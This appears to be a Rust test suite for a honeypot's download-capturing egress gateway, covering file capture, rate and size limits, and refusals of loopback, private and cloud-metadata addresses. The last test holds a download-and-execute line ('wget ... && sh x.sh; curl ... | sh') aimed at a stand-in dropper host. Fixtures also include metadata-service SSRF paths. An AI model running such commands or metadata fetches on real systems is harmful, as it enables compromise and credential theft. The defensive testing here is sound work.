//! The gateway against real sockets: a web server of the test's own on loopback,
//! the box's side a duplex pipe.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use hermes_core::address_block::AddressBlock;
use hermes_core::boxnet::BoxOwner;
use hermes_core::capture::{FetchHints, FileStore, sha256_hex};
use hermes_core::config::{ByteSize, EgressConfig, Seconds};
use hermes_core::events::{ConnectionContext, Event, EventId};
use hermes_core::ids::SessionId;
use hermes_core::testing::RecordedEvents;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use super::{Fetcher, serve_http};
use crate::BoxContext;
use crate::host_addresses::HostAddresses;
use crate::ssrf::{Refusal, UpstreamPolicy};

/// What the test server answers: the response bytes, sent after a delay, then
/// (when `stall`) nothing more while the connection stays open.
#[derive(Clone)]
struct Answer {
    response: Vec<u8>,
    delay: Duration,
    stall: bool,
}

fn ok(body: &[u8]) -> Answer {
    let mut response =
        format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
    response.extend_from_slice(body);
    Answer {
        response,
        delay: Duration::ZERO,
        stall: false,
    }
}

/// A web server on `address` counting connections and the most open at once.
struct Server {
    address: SocketAddr,
    connections: Arc<AtomicUsize>,
    max_open: Arc<AtomicUsize>,
    requests: Arc<Mutex<Vec<String>>>,
    task: tokio::task::JoinHandle<()>,
}

impl Drop for Server {
    fn drop(&mut self) {
        self.task.abort();
    }
}

async fn server(address: &str, answer: Answer) -> Server {
    let listener = TcpListener::bind(address).await.expect("bind");
    let address = listener.local_addr().expect("address");
    let connections = Arc::new(AtomicUsize::new(0));
    let open = Arc::new(AtomicUsize::new(0));
    let max_open = Arc::new(AtomicUsize::new(0));
    let requests = Arc::new(Mutex::new(Vec::new()));
    let task = tokio::spawn({
        let (connections, max_open, requests) = (
            Arc::clone(&connections),
            Arc::clone(&max_open),
            Arc::clone(&requests),
        );
        async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                connections.fetch_add(1, Ordering::SeqCst);
                let now = open.fetch_add(1, Ordering::SeqCst) + 1;
                max_open.fetch_max(now, Ordering::SeqCst);
                let (open, requests, answer) =
                    (Arc::clone(&open), Arc::clone(&requests), answer.clone());
                tokio::spawn(async move {
                    let mut head = Vec::new();
                    let mut byte = [0u8; 1];
                    while !head.ends_with(b"\r\n\r\n") && head.len() < 65536 {
                        match socket.read(&mut byte).await {
                            Ok(1) => head.push(byte[0]),
                            _ => break,
                        }
                    }
                    requests
                        .lock()
                        .expect("lock")
                        .push(String::from_utf8_lossy(&head).into_owned());
                    tokio::time::sleep(answer.delay).await;
                    let _ = socket.write_all(&answer.response).await;
                    if answer.stall {
                        tokio::time::sleep(Duration::from_secs(30)).await;
                    }
                    open.fetch_sub(1, Ordering::SeqCst);
                });
            }
        }
    });
    Server {
        address,
        connections,
        max_open,
        requests,
        task,
    }
}

pub(super) struct Rig {
    pub(super) fetcher: Arc<Fetcher>,
    pub(super) events: RecordedEvents,
    pub(super) ctx: BoxContext,
    pub(super) store: tempfile::TempDir,
}

/// A gateway allowing only `allow` upstream, on `ports` besides the defaults.
pub(super) fn rig(allow: &[&str], ports: &[u16], tune: impl FnOnce(&mut EgressConfig)) -> Rig {
    let mut config = EgressConfig {
        upstream_allow: allow
            .iter()
            .map(|block| AddressBlock::parse(block).expect("block"))
            .collect(),
        ..EgressConfig::default()
    };
    config.upstream_ports.extend_from_slice(ports);
    tune(&mut config);
    let store_dir = tempfile::tempdir().expect("tempdir");
    let store = Arc::new(FileStore::open(store_dir.path(), 1 << 30).expect("store"));
    let policy = UpstreamPolicy::new(&config, HostAddresses::read());
    let (bus, events) = RecordedEvents::new();
    let owner = ConnectionContext {
        session: SessionId::random(),
        src: "198.51.100.7:40000".parse().expect("addr"),
        dst: "192.0.2.10:22".parse().expect("addr"),
    };
    let ctx = BoxContext {
        container_id: "c0ffee".to_owned(),
        owner: Arc::new(move || Some(BoxOwner::from(owner.clone()))),
        events: bus,
    };
    Rig {
        fetcher: Arc::new(Fetcher::new(&config, policy, store)),
        events,
        ctx,
        store: store_dir,
    }
}

impl Rig {
    /// The box sends `request` to `dst`; what it read back before the close.
    async fn fetch(&self, dst: SocketAddr, request: &str) -> Vec<u8> {
        let (mut box_side, gateway_side) = tokio::io::duplex(64 * 1024);
        let serve = tokio::spawn(serve_http(
            gateway_side,
            dst,
            self.ctx.clone(),
            Arc::clone(&self.fetcher),
        ));
        box_side.write_all(request.as_bytes()).await.expect("send");
        if request.is_empty() {
            // A connection that sends nothing and closes (a port scan).
            box_side.shutdown().await.expect("shutdown");
        }
        let mut answer = Vec::new();
        tokio::time::timeout(Duration::from_secs(20), box_side.read_to_end(&mut answer))
            .await
            .expect("the gateway closes")
            .expect("read");
        tokio::time::timeout(Duration::from_secs(20), serve)
            .await
            .expect("serve ends")
            .expect("serve");
        answer
    }

    fn one(&self, id: EventId) -> Event {
        let events = self.events.of(id);
        assert_eq!(events.len(), 1, "{:?}", self.events.all());
        events.into_iter().next().expect("one")
    }
}

fn text(event: &Event, field: &str) -> String {
    event
        .get(field)
        .and_then(|v| v.as_str())
        .unwrap_or_default()
        .to_owned()
}

fn number(event: &Event, field: &str) -> u64 {
    event
        .get(field)
        .and_then(|v| v.as_u64())
        .unwrap_or(u64::MAX)
}

fn get(path: &str, host: &str) -> String {
    format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Wget/1.21.3\r\nConnection: Keep-Alive\r\n\r\n"
    )
}

#[tokio::test]
async fn a_body_is_relayed_stored_with_its_sha256_and_reported_with_its_url() {
    let body = b"#!/bin/sh\ncd /tmp; echo pwned\n".repeat(100);
    let answer = ok(&body);
    let server = server("127.0.0.1:0", answer.clone()).await;
    let port = server.address.port();
    let rig = rig(&["127.0.0.1/32"], &[port], |_| {});
    let host = format!("evil.example:{port}");
    let relayed = rig.fetch(server.address, &get("/x.sh?a=1", &host)).await;
    assert_eq!(
        relayed, answer.response,
        "the box gets the response as sent"
    );
    let event = rig.one(EventId::FileDownload);
    assert_eq!(text(&event, "url"), format!("http://{host}/x.sh?a=1"));
    assert_eq!(text(&event, "shasum"), sha256_hex(&body));
    assert_eq!(number(&event, "size"), body.len() as u64);
    assert_eq!(
        number(&event, "upstream_bytes"),
        answer.response.len() as u64
    );
    assert_eq!(text(&event, "upstream"), server.address.to_string());
    assert_eq!(
        event.get("duplicate").and_then(|v| v.as_bool()),
        Some(false)
    );
    assert!(event.get("truncated").is_none());
    assert_eq!(
        std::fs::read(text(&event, "outfile")).expect("stored"),
        body
    );
    EventId::FileDownload
        .check(event.as_json())
        .expect("the catalogue's fields");
    let requests = server.requests.lock().expect("lock").clone();
    assert_eq!(
        requests,
        [format!(
            "GET /x.sh?a=1 HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Wget/1.21.3\r\nConnection: close\r\n\r\n"
        )]
    );
    // The same content again is a duplicate.
    rig.fetch(server.address, &get("/x.sh", &host)).await;
    let events = rig.events.of(EventId::FileDownload);
    assert_eq!(
        events[1].get("duplicate").and_then(|v| v.as_bool()),
        Some(true)
    );
}

#[tokio::test]
async fn a_chunked_body_is_stored_decoded() {
    let response =
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nELF!\r\n3\r\nabc\r\n0\r\n\r\n";
    let server = server(
        "127.0.0.1:0",
        Answer {
            response: response.to_vec(),
            delay: Duration::ZERO,
            stall: false,
        },
    )
    .await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |_| {});
    let relayed = rig.fetch(server.address, "GET /bot HTTP/1.0\r\n\r\n").await;
    assert_eq!(relayed, response);
    let event = rig.one(EventId::FileDownload);
    assert_eq!(text(&event, "shasum"), sha256_hex(b"ELF!abc"));
    assert_eq!(
        text(&event, "url"),
        format!("http://{}/bot", server.address)
    );
}

#[tokio::test]
async fn a_download_over_the_size_limit_is_cut_kept_and_reported() {
    let body: Vec<u8> = (0..10 * 1024).map(|i| (i % 251) as u8).collect();
    let answer = ok(&body);
    let server = server("127.0.0.1:0", answer.clone()).await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
        config.limits.download_size = ByteSize::kib(1);
    });
    let relayed = rig.fetch(server.address, &get("/big", "h")).await;
    let head = answer.response.len() - body.len();
    assert_eq!(
        relayed,
        answer.response[..head + 1024],
        "the box gets what was kept, then the close"
    );
    let event = rig.one(EventId::FileDownload);
    assert_eq!(event.get("truncated").and_then(|v| v.as_bool()), Some(true));
    assert_eq!(text(&event, "reason"), "download_size");
    assert_eq!(number(&event, "size"), 1024);
    assert_eq!(text(&event, "shasum"), sha256_hex(&body[..1024]));
    assert_eq!(
        std::fs::read(text(&event, "outfile")).expect("stored"),
        body[..1024]
    );
    EventId::FileDownload
        .check(event.as_json())
        .expect("catalogue");
}

#[tokio::test]
async fn session_bytes_cut_a_fetch_and_refuse_the_next_without_connecting() {
    let body = vec![b'x'; 8 * 1024];
    let server = server("127.0.0.1:0", ok(&body)).await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
        config.limits.session_bytes = ByteSize::kib(4);
    });
    rig.fetch(server.address, &get("/a", "h")).await;
    let event = rig.one(EventId::FileDownload);
    assert_eq!(text(&event, "reason"), "session_bytes");
    assert_eq!(number(&event, "upstream_bytes"), 4096);
    let relayed = rig.fetch(server.address, &get("/b", "h")).await;
    assert!(relayed.is_empty());
    let failed = rig.one(EventId::FileDownloadFailed);
    assert_eq!(text(&failed, "reason"), "session_bytes");
    assert_eq!(server.connections.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn past_the_session_fetch_limit_fetches_fail() {
    let server = server("127.0.0.1:0", ok(b"payload")).await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
        config.limits.fetches_per_session = 2;
    });
    for path in ["/1", "/2", "/3", "/4"] {
        rig.fetch(server.address, &get(path, "h")).await;
    }
    assert_eq!(rig.events.count(EventId::FileDownload), 2);
    let failed = rig.events.of(EventId::FileDownloadFailed);
    assert_eq!(failed.len(), 2);
    for event in &failed {
        assert_eq!(text(event, "reason"), "fetches_per_session");
        EventId::FileDownloadFailed
            .check(event.as_json())
            .expect("catalogue");
    }
    assert_eq!(text(&failed[1], "url"), "http://h/4");
    assert_eq!(server.connections.load(Ordering::SeqCst), 2);
    assert_eq!(rig.fetcher.upstream_connects(), 2);
}

#[tokio::test]
async fn twenty_parallel_fetches_never_exceed_the_concurrency_cap() {
    const CAP: usize = 3;
    let mut answer = ok(b"slow payload");
    answer.delay = Duration::from_millis(150);
    let server = server("127.0.0.1:0", answer).await;
    let rig = Arc::new(rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
        config.limits.concurrent_fetches = CAP as u32;
    }));
    let started = std::time::Instant::now();
    let fetches: Vec<_> = (0..20)
        .map(|i| {
            let (rig, address) = (Arc::clone(&rig), server.address);
            tokio::spawn(async move { rig.fetch(address, &get(&format!("/{i}"), "h")).await })
        })
        .collect();
    for fetch in fetches {
        assert!(fetch.await.expect("fetch").ends_with(b"slow payload"));
    }
    let elapsed = started.elapsed();
    assert_eq!(
        server.connections.load(Ordering::SeqCst),
        20,
        "every fetch went upstream"
    );
    assert_eq!(rig.events.count(EventId::FileDownload), 20);
    let max_open = server.max_open.load(Ordering::SeqCst);
    assert!(max_open <= CAP, "{max_open} upstream connections at once");
    assert_eq!(max_open, CAP, "the fetches did overlap up to the cap");
    assert!(rig.fetcher.max_in_flight() <= CAP);
    // 20 fetches of 150 ms, 3 at a time: at least 7 rounds.
    assert!(elapsed >= Duration::from_millis(7 * 150), "{elapsed:?}");
}

#[tokio::test]
async fn loopback_is_refused_without_connecting_and_the_box_gets_no_answer() {
    let server = server("127.0.0.1:0", ok(b"secret")).await;
    let port = server.address.port();
    for (allow, reason) in [
        (&[][..], "loopback"),
        // Outside an allowlist, a special address keeps its own reason.
        (&["127.0.0.2/32"][..], "loopback"),
    ] {
        let rig = rig(allow, &[port], |_| {});
        let relayed = rig.fetch(server.address, &get("/", "localhost")).await;
        assert!(relayed.is_empty(), "closed without an answer");
        let event = rig.one(EventId::FileDownloadFailed);
        assert_eq!(text(&event, "reason"), reason);
        assert_eq!(text(&event, "url"), format!("http://localhost/"));
        EventId::FileDownloadFailed
            .check(event.as_json())
            .expect("catalogue");
        assert_eq!(rig.fetcher.upstream_connects(), 0);
    }
    // An allowlisted address on a port not listed is refused too.
    let rig = rig(&["127.0.0.1/32"], &[], |_| {});
    rig.fetch(server.address, &get("/", "h")).await;
    assert_eq!(
        text(&rig.one(EventId::FileDownloadFailed), "reason"),
        "port"
    );
    tokio::task::yield_now().await;
    assert_eq!(
        server.connections.load(Ordering::SeqCst),
        0,
        "the listener saw no connection"
    );
}

#[tokio::test]
async fn metadata_and_private_addresses_are_refused_without_connecting() {
    let rig = rig(&[], &[], |_| {});
    for (dst, reason) in [
        ("169.254.169.254:80", Refusal::Metadata),
        ("10.1.2.3:80", Refusal::Private),
        ("[::ffff:169.254.169.254]:80", Refusal::Metadata),
        ("[fd00:ec2::254]:80", Refusal::Private),
    ] {
        let dst: SocketAddr = dst.parse().expect("addr");
        assert_eq!(rig.fetcher.policy().check(dst), Err(reason));
        let relayed = rig
            .fetch(dst, &get("/latest/meta-data/", "169.254.169.254"))
            .await;
        assert!(relayed.is_empty());
        let reasons = rig.events.fields(EventId::FileDownloadFailed, "reason");
        assert_eq!(reasons.last().map(String::as_str), Some(reason.as_str()));
    }
    assert_eq!(
        rig.fetcher.upstream_connects(),
        0,
        "no connection was attempted"
    );
}

#[tokio::test]
async fn a_redirect_to_the_metadata_service_is_refused_at_its_own_connection() {
    let redirect = b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest/meta-data/\r\nContent-Length: 0\r\n\r\n";
    let server = server(
        "127.0.0.1:0",
        Answer {
            response: redirect.to_vec(),
            delay: Duration::ZERO,
            stall: false,
        },
    )
    .await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |_| {});
    // curl -L: the redirect comes back to the box...
    let relayed = rig.fetch(server.address, &get("/go", "h")).await;
    assert_eq!(relayed, redirect);
    let first = rig.one(EventId::FileDownloadFailed);
    assert_eq!(text(&first, "reason"), "http_status");
    assert!(text(&first, "error").contains("302"));
    assert!(text(&first, "error").contains("169.254.169.254"));
    // ...and its client connects to the new address, which is refused.
    let metadata: SocketAddr = "169.254.169.254:80".parse().expect("addr");
    let relayed = rig
        .fetch(metadata, &get("/latest/meta-data/", "169.254.169.254"))
        .await;
    assert!(relayed.is_empty());
    let reasons = rig.events.fields(EventId::FileDownloadFailed, "reason");
    assert_eq!(reasons, ["http_status", "metadata"]);
    assert_eq!(rig.fetcher.upstream_connects(), 1);
    assert_eq!(rig.events.count(EventId::FileDownload), 0);
}

#[tokio::test]
async fn a_stalled_download_is_cut_at_the_fetch_timeout_and_kept() {
    let mut answer = ok(&[b'z'; 1000]);
    answer.response.truncate(answer.response.len() - 400);
    answer.stall = true;
    let server = server("127.0.0.1:0", answer).await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
        config.limits.fetch_timeout = Seconds::new(1);
    });
    let started = std::time::Instant::now();
    rig.fetch(server.address, &get("/slow", "h")).await;
    let elapsed = started.elapsed();
    assert!(
        elapsed >= Duration::from_secs(1) && elapsed < Duration::from_secs(5),
        "{elapsed:?}"
    );
    let event = rig.one(EventId::FileDownload);
    assert_eq!(text(&event, "reason"), "fetch_timeout");
    assert_eq!(number(&event, "size"), 600);
}

#[tokio::test]
async fn a_connection_refused_upstream_and_garbage_from_the_box_fail() {
    // A port nobody listens on: bind, learn it, close.
    let closed = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let address = closed.local_addr().expect("address");
    drop(closed);
    let rig = rig(&["127.0.0.1/32"], &[address.port()], |_| {});
    assert!(rig.fetch(address, &get("/", "h")).await.is_empty());
    assert_eq!(
        text(&rig.one(EventId::FileDownloadFailed), "reason"),
        "connect_failed"
    );
    let rig2 = self::rig(&["127.0.0.1/32"], &[address.port()], |_| {});
    assert!(
        rig2.fetch(address, "\x16\x03\x01 not http\r\n\r\n")
            .await
            .is_empty()
    );
    assert_eq!(
        text(&rig2.one(EventId::FileDownloadFailed), "reason"),
        "bad_request"
    );
    assert!(rig2.fetch(address, "").await.is_empty());
    assert_eq!(
        rig2.events.count(EventId::FileDownloadFailed),
        1,
        "an empty connection is no fetch"
    );
    assert_eq!(rig2.fetcher.upstream_connects(), 0);
}

#[tokio::test]
async fn the_host_header_is_never_resolved_the_connected_address_is_fetched() {
    let server = server("127.0.0.1:0", ok(b"from the connected address")).await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |_| {});
    let relayed = rig
        .fetch(
            server.address,
            &get("/computeMetadata/v1/", "metadata.google.internal"),
        )
        .await;
    assert!(relayed.ends_with(b"from the connected address"));
    let event = rig.one(EventId::FileDownload);
    assert_eq!(
        text(&event, "url"),
        "http://metadata.google.internal/computeMetadata/v1/"
    );
    assert_eq!(text(&event, "upstream"), server.address.to_string());
    assert_eq!(server.connections.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn the_hourly_budget_is_shared_by_every_session() {
    let body = vec![b'y'; 3000];
    let server = server("127.0.0.1:0", ok(&body)).await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
        config.limits.hourly_bytes = ByteSize::kib(5);
    });
    rig.fetch(server.address, &get("/one", "h")).await;
    let whole = rig.one(EventId::FileDownload);
    assert!(whole.get("truncated").is_none());
    let first_bytes = number(&whole, "upstream_bytes");
    // Another session of the sensor gets what is left of the hour, then nothing.
    let other = Rig {
        ctx: BoxContext {
            owner: Arc::new(|| {
                Some(BoxOwner::from(ConnectionContext {
                    session: SessionId::random(),
                    src: "203.0.113.50:50000".parse().expect("addr"),
                    dst: "192.0.2.10:22".parse().expect("addr"),
                }))
            }),
            ..rig.ctx.clone()
        },
        fetcher: Arc::clone(&rig.fetcher),
        events: RecordedEvents::new().1,
        store: tempfile::tempdir().expect("tempdir"),
    };
    other.fetch(server.address, &get("/two", "h")).await;
    other.fetch(server.address, &get("/three", "h")).await;
    let downloads = rig.events.of(EventId::FileDownload);
    assert_eq!(downloads.len(), 2);
    assert_eq!(text(&downloads[1], "reason"), "hourly_bytes");
    assert_eq!(
        number(&downloads[1], "upstream_bytes"),
        5 * 1024 - first_bytes
    );
    let failed = rig.one(EventId::FileDownloadFailed);
    assert_eq!(text(&failed, "reason"), "hourly_bytes");
    assert_eq!(server.connections.load(Ordering::SeqCst), 2);
}

/// A gateway listener for a real client: every connection it accepts is served as
/// if the box had connected to `original_dst` (what the netns's REDIRECT and
/// SO_ORIGINAL_DST give the real gateway).
async fn gateway_for(
    rig: &Rig,
    original_dst: SocketAddr,
) -> (SocketAddr, tokio::task::JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    serve_gateway(listener, rig, original_dst)
}

fn serve_gateway(
    listener: TcpListener,
    rig: &Rig,
    original_dst: SocketAddr,
) -> (SocketAddr, tokio::task::JoinHandle<()>) {
    let address = listener.local_addr().expect("address");
    let (ctx, fetcher) = (rig.ctx.clone(), Arc::clone(&rig.fetcher));
    let task = tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            tokio::spawn(serve_http(
                socket,
                original_dst,
                ctx.clone(),
                Arc::clone(&fetcher),
            ));
        }
    });
    (address, task)
}

/// Whether `program` runs here; under CI=true it must.
pub(super) fn have(program: &str) -> bool {
    let found = std::process::Command::new(program)
        .arg("--version")
        .output()
        .is_ok_and(|out| out.status.success());
    assert!(
        found || std::env::var("CI").as_deref() != Ok("true"),
        "{program} missing"
    );
    if !found {
        eprintln!("{program} not installed: skipped");
    }
    found
}

/// Runs a client to completion (bounded by its own timeout options); its exit code.
async fn run(program: &str, args: Vec<String>) -> i32 {
    let program = program.to_owned();
    tokio::task::spawn_blocking(move || {
        std::process::Command::new(&program)
            .args(&args)
            .output()
            .expect("run the client")
            .status
            .code()
            .unwrap_or(-1)
    })
    .await
    .expect("client")
}

#[tokio::test]
async fn curl_and_wget_see_a_download_a_cut_and_a_refusal_as_from_a_real_network() {
    if !have("curl") || !have("wget") {
        return;
    }
    let body: Vec<u8> = (0..10 * 1024).map(|i| (i % 253) as u8).collect();
    let server = server("127.0.0.1:0", ok(&body)).await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |config| {
        config.limits.download_size = ByteSize::kib(4);
    });
    let small = self::server("127.0.0.1:0", ok(b"#!/bin/sh\necho hi\n")).await;
    let small_rig = self::rig(&["127.0.0.1/32"], &[small.address.port()], |_| {});
    let (to_small, _a) = gateway_for(&small_rig, small.address).await;
    let (to_big, _b) = gateway_for(&rig, server.address).await;
    let metadata: SocketAddr = "169.254.169.254:80".parse().expect("addr");
    let (to_metadata, _c) = gateway_for(&rig, metadata).await;
    let dir = tempfile::tempdir().expect("tempdir");
    let out = |name: &str| dir.path().join(name).display().to_string();
    let curl = |url: String, file: String, extra: &[&str]| {
        let mut args: Vec<String> = ["-sS", "--max-time", "10", "-o"].map(String::from).to_vec();
        args.push(file);
        args.extend(extra.iter().map(|a| a.to_string()));
        args.push(url);
        args
    };

    // A whole download: exit 0, the file as served, the same bytes stored.
    let code = run(
        "curl",
        curl(format!("http://{to_small}/a.sh"), out("a.sh"), &[]),
    )
    .await;
    assert_eq!(code, 0);
    assert_eq!(
        std::fs::read(out("a.sh")).expect("saved"),
        b"#!/bin/sh\necho hi\n"
    );
    let wget = ["-q", "-t", "1", "-T", "10", "-O"]
        .map(String::from)
        .to_vec();
    let mut args = wget.clone();
    args.extend([out("w.sh"), format!("http://{to_small}/w.sh")]);
    assert_eq!(run("wget", args).await, 0);
    assert_eq!(
        std::fs::read(out("w.sh")).expect("saved"),
        b"#!/bin/sh\necho hi\n"
    );
    small_rig
        .events
        .wait_for_count(EventId::FileDownload, 2)
        .await;
    let shas = small_rig.events.fields(EventId::FileDownload, "shasum");
    assert_eq!(
        shas,
        [
            sha256_hex(b"#!/bin/sh\necho hi\n"),
            sha256_hex(b"#!/bin/sh\necho hi\n")
        ]
    );

    // Over download_size: curl reports a partial file (18), 4 KiB kept.
    let code = run(
        "curl",
        curl(format!("http://{to_big}/big"), out("big"), &[]),
    )
    .await;
    assert_eq!(code, 18, "curl: partial file");
    assert_eq!(std::fs::read(out("big")).expect("saved").len(), 4096);
    rig.events.wait_for_count(EventId::FileDownload, 1).await;
    let cut = rig.one(EventId::FileDownload);
    assert_eq!(text(&cut, "reason"), "download_size");

    // Refused: no answer at all; curl says "Empty reply from server" (52), wget
    // fails with its network error (4).
    let code = run(
        "curl",
        curl(
            format!("http://{to_metadata}/latest/meta-data/"),
            out("m"),
            &[],
        ),
    )
    .await;
    assert_eq!(code, 52, "curl: empty reply");
    let mut args = wget.clone();
    args.extend([out("m2"), format!("http://{to_metadata}/latest/")]);
    assert_eq!(run("wget", args).await, 4, "wget: network failure");
    rig.events
        .wait_for_count(EventId::FileDownloadFailed, 2)
        .await;
    assert_eq!(
        rig.events.fields(EventId::FileDownloadFailed, "reason"),
        ["metadata", "metadata"]
    );
}

#[tokio::test]
async fn curl_following_a_redirect_to_the_metadata_service_is_refused_at_the_new_connection() {
    if !have("curl") {
        return;
    }
    // The metadata service's gateway listener first: the redirect names it.
    let metadata: SocketAddr = "169.254.169.254:80".parse().expect("addr");
    let metadata_listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let to_metadata = metadata_listener.local_addr().expect("address");
    let redirect = format!(
        "HTTP/1.1 301 Moved Permanently\r\nLocation: http://{to_metadata}/latest/meta-data/iam/\r\nContent-Length: 0\r\n\r\n"
    );
    let server = server(
        "127.0.0.1:0",
        Answer {
            response: redirect.into_bytes(),
            delay: Duration::ZERO,
            stall: false,
        },
    )
    .await;
    let rig = rig(&["127.0.0.1/32"], &[server.address.port()], |_| {});
    let _metadata_gateway = serve_gateway(metadata_listener, &rig, metadata);
    let (to_server, _server_gateway) = gateway_for(&rig, server.address).await;
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("x").display().to_string();
    let args = [
        "-sS",
        "-L",
        "--max-time",
        "10",
        "-o",
        &file,
        &format!("http://{to_server}/go"),
    ]
    .map(String::from)
    .to_vec();
    assert_eq!(
        run("curl", args).await,
        52,
        "curl -L: empty reply at the redirect's target"
    );
    assert_eq!(
        rig.events.fields(EventId::FileDownloadFailed, "reason"),
        ["http_status", "metadata"]
    );
    assert_eq!(server.connections.load(Ordering::SeqCst), 1);
    assert_eq!(
        rig.fetcher.upstream_connects(),
        1,
        "the redirect's target was never contacted"
    );
}

#[tokio::test]
async fn a_box_looping_on_a_refused_address_gets_a_bounded_number_of_events() {
    let rig = rig(&[], &[], |_| {});
    let dst: SocketAddr = "10.1.2.3:80".parse().expect("addr");
    let loops = super::budget::FAILURES_REPORTED as usize + 20;
    for _ in 0..loops {
        assert!(rig.fetch(dst, &get("/", "10.1.2.3")).await.is_empty());
    }
    assert_eq!(
        rig.events.count(EventId::FileDownloadFailed),
        super::budget::FAILURES_REPORTED as usize
    );
    assert_eq!(rig.fetcher.upstream_connects(), 0);
}

#[tokio::test]
async fn a_download_a_command_asked_for_gets_the_destfile_that_command_saves_to() {
    let body = b"#!/bin/sh\necho stage-one\n".to_vec();
    let server = server("127.0.0.1:0", ok(&body)).await;
    let port = server.address.port();
    let base = rig(&["127.0.0.1/32"], &[port], |_| {});
    let hints = FetchHints::default();
    hints.note(&format!(
        "cd /tmp; wget -q http://Dropper.Test:{port}/x.sh && sh x.sh; \
         curl -s http://dropper.test:{port}/piped.sh | sh"
    ));
    let owner = BoxOwner {
        context: (base.ctx.owner)().expect("an owner").context,
        hints,
    };
    let rig = Rig {
        ctx: BoxContext {
            owner: Arc::new(move || Some(owner.clone())),
            ..base.ctx.clone()
        },
        ..base
    };
    let host = format!("dropper.test:{port}");
    for path in ["/x.sh", "/piped.sh", "/unasked.sh"] {
        rig.fetch(server.address, &get(path, &host)).await;
    }
    let downloads = rig.events.of(EventId::FileDownload);
    assert_eq!(downloads.len(), 3, "{:?}", rig.events.all());
    let of = |path: &str| {
        let url = format!("http://{host}{path}");
        downloads
            .iter()
            .find(|event| text(event, "url") == url)
            .unwrap_or_else(|| panic!("{url}: {downloads:?}"))
            .clone()
    };
    assert_eq!(text(&of("/x.sh"), "destfile"), "x.sh");
    assert!(of("/x.sh").get("shasum").is_some());
    // curl to its stdout saves nothing; nothing asked for the third.
    assert!(of("/piped.sh").get("destfile").is_none());
    assert!(of("/unasked.sh").get("destfile").is_none());
}
